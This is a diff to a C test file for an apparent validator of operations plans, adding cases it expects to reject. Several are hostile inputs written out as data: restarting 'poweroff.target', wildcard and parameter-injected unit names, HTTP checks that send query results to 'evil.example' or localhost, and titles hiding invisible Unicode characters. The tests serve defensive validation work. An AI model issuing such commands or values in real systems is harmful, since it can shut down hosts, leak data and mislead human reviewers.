@@ -143,7 +143,11 @@ TEST(the_good_one_is_clean_and_its_program_is_named)
 #define VERIFY                                                                                     \
 	"  verify: {expr: drops.count == 0 and agents.ready, poll: 5s, within: 5m, stable: 3, "    \
 	"sources: 2}\n"
-#define ARGV "argv: [systemctl, show, --no-pager, \"unit-${params.unit}\"]"
+#define PATCH                                                                                      \
+	"{k8s.patch: {ref: \"v1 ConfigMap ${params.namespace}/x\", patch: {data: {size: "          \
+	"\"${params.unit}\"}}}}"
+#define RESTART(unit) "{command: {argv: [systemctl, restart, \"" unit "\"], output: 1KiB}}"
+#define ARGV          "argv: [systemctl, show, --no-pager, \"unit-${params.unit}\"]"
 
 /* Low itself, before any approval; its way back is not. */
 #define UNDONE_BY_A_DELETION                                                                       \
@@ -324,6 +328,12 @@ static const struct {
 	{"RBL-021", ARGV, "argv: [kubectl, delete, ns, x]", NULL},
 	{"RBL-021", ARGV, "argv: [ip, netns, exec, x, sh]", NULL},
 	{"RBL-021", ARGV, "argv: [systemctl, restart, x]", NULL},
+	{"RBL-021", ARGV, "argv: [systemctl, restart, poweroff.target]", NULL},
+	{"RBL-021", PATCH, RESTART("poweroff.target"), "RBL-017"},
+	{"RBL-021", PATCH, RESTART("*.service"), "RBL-017"},
+	{"RBL-021", PATCH, RESTART("${params.namespace}"), "RBL-017"},
+	{"RBL-021", PATCH, RESTART("x${params.unit}.service"), "RBL-017"},
+	{"RBL-017", PATCH, RESTART("x${params.namespace}.service"), NULL},
 	{"RBL-021", ARGV, "argv: [uname, -a, x]", NULL},
 	{"RBL-021", ARGV, "argv: [systemctl, show]", NULL},
 	{"RBL-022", "unit-${params.unit}", "${params.unit}", NULL},
@@ -363,6 +373,8 @@ static const struct {
 	{"RBL-030", "kind: query\n  mutates: false\n  query: {source: agents, limit: 100}",
 	 "kind: k8s\n  mutates: false\n  k8s: {list: v1 Secret, limit: 5}", "RBL-010"},
 	{"RBL-031", AGENTS, HTTP("http://evil.example/?x=${drops.count}"), "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("http://a.b.svc/${drops.rows[0].node}"), "RBL-010"},
+	{"RBL-031", AGENTS, HTTP("http://localhost/?x=${drops.count}"), "RBL-010"},
 	{"RBL-031", AGENTS, HTTP("http://a.b.svc@evil.example/"), "RBL-010"},
 	{"RBL-031", AGENTS, HTTP("http://${params.unit}.svc/"), "RBL-010"},
 	{"RBL-031", AGENTS, HTTP("http://evil.example/a.svc"), "RBL-010"},
@@ -372,6 +384,12 @@ static const struct {
 	{"RBL-033", "- id: fix\n", ASKS "- id: fix\n", NULL},
 	{"RBL-033", "- id: fix\n", EACH_ASKED "- id: fix\n", NULL},
 	{"RBL-032", "title: agents", "title: \"agents \\u0085\"", NULL},
+	{"RBL-032", "title: agents", "title: \"age\\u2060nts\"", NULL},
+	{"RBL-032", "title: agents", "title: \"age\\u00adnts\"", NULL},
+	{"RBL-032", "title: agents", "title: \"age\\u180ents\"", NULL},
+	{"RBL-032", "title: agents", "title: \"age\\ufe0fnts\"", NULL},
+	{"RBL-032", "title: agents", "title: \"age\\u3164nts\"", NULL},
+	{"RBL-032", "title: agents", "title: \"age\\U000E0041nts\"", NULL},
 	{"RBL-032", "title: agents", "title: \"agents\\nan approval is for plan 0\"", NULL},
 	{"RBL-032", "title: agents", "title: \"agents                            way back yes\"",
 	 NULL},
@@ -662,7 +680,7 @@ TEST(a_service_of_the_cluster_may_be_asked)
 {
 	static const char *const urls[] = {HTTP("https://web.${params.namespace}.svc:8443/healthz"),
 					   HTTP("http://a.b.svc.cluster.local"),
-					   HTTP("http://localhost:9090/x?y=${drops.count}")};
+					   HTTP("http://localhost:9090/x?y=${params.unit}")};
 
 	for (size_t i = 0; i < ARRAY_SIZE(urls); i++) {
 		auto_free char *text = edited(AGENTS, urls[i]);
